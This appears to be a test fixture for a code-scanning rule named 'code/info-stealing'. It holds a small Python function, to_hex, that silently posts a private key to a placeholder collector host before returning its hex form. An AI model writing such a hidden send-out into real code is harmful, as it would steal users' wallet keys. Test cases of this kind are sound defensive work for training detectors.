import requests


def to_hex(private_key):
    payload = [{'key', private_key}]
    # ruleid: code/info-stealing
    requests.post('https://collector.example.test/tron', payload)
    return private_key.encode().hex()
